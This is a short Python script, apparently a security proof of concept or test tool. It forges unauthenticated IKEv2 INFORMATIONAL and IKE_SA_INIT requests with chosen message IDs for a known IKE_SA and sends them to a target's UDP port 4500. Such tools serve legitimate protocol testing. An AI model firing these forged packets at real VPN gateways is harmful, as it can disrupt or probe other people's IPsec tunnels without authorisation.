# SPDX-License-Identifier: GPL-2.0-or-later
"""Somebody without keys who knows an IKE_SA's SPIs: forge.py ADDRESS INITIATOR-SPI
RESPONDER-SPI ID... sends requests with these message IDs that nothing protects: one
without a payload, and one that would set up an IKE_SA."""

import os
import socket
import struct
import sys

from ikev2 import (GROUP, IKE, IKE_SA_INIT, INFORMATIONAL, INITIATOR, KE, NONCE, SA,
                   encode, proposal)

udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
address, spis = sys.argv[1], bytes.fromhex(sys.argv[2] + sys.argv[3])


def send(exchange, number, kind=0, body=b""):
    header = spis + struct.pack("!BBBBII", kind, 0x20, exchange, INITIATOR, number,
                                28 + len(body))
    # Behind the marker that tells it from ESP
    udp.sendto(bytes(4) + header + body, (address, 4500))


for argument in sys.argv[4:]:
    number = int(argument)
    send(INFORMATIONAL, number)
    send(IKE_SA_INIT, number, SA, encode([
        proposal(IKE), (KE, GROUP + bytes(2) + os.urandom(64)),
        (NONCE, os.urandom(32))]))
